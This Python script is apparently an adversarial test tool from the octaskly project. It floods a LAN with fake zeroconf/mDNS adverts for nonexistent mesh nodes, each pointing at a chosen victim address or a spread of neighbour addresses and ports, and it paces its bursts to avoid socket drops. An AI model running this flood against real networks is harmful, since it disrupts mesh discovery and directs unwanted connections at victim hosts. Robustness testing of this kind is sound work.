"""A rogue advertiser: floods the LAN with nodes that do not exist.

Its arguments are its own address, the claimed mesh id, a victim's address (or `each`
for another neighbour and port each time), and the number of nodes.
"""

import asyncio
import sys

from zeroconf import ServiceInfo
from zeroconf.asyncio import AsyncZeroconf

from octaskly.mesh.discovery.adverts import SERVICE

ALPHABET = "abcdefghijklmnopqrstuvwxyz234567"
BURST = 50
NEIGHBOURS = 200


def fake_id(number: int) -> str:
    """Return a different node id for each number."""
    letters = ""
    for _ in range(16):
        number, digit = divmod(number, 32)
        letters += ALPHABET[digit]
    return letters


async def flood(host: str, mesh: str, victim: str, count: int) -> None:
    rogue = AsyncZeroconf(interfaces=[host])
    await rogue.zeroconf.async_wait_for_start()
    for number in range(count):
        address = victim
        if victim == "each":
            address = f"10.77.1.{10 + number % NEIGHBOURS}"
        info = ServiceInfo(
            SERVICE,
            f"{fake_id(number)}.{SERVICE}",
            port=22 + (number // NEIGHBOURS if victim == "each" else 0),
            server=f"{fake_id(number)}.local.",
            parsed_addresses=[address],
            properties={"v": "1", "m": mesh, "b": "1", "a": "1", "r": "d", "t": "9"},
        )
        rogue.zeroconf.async_send(rogue.zeroconf.generate_service_broadcast(info, None))
        if number % BURST == 0:
            # Otherwise the receiver's socket drops the rest.
            await asyncio.sleep(0.005)
    await rogue.async_close()


if __name__ == "__main__":
    _, own, claimed, target, many = sys.argv
    asyncio.run(flood(own, claimed, target, int(many)))
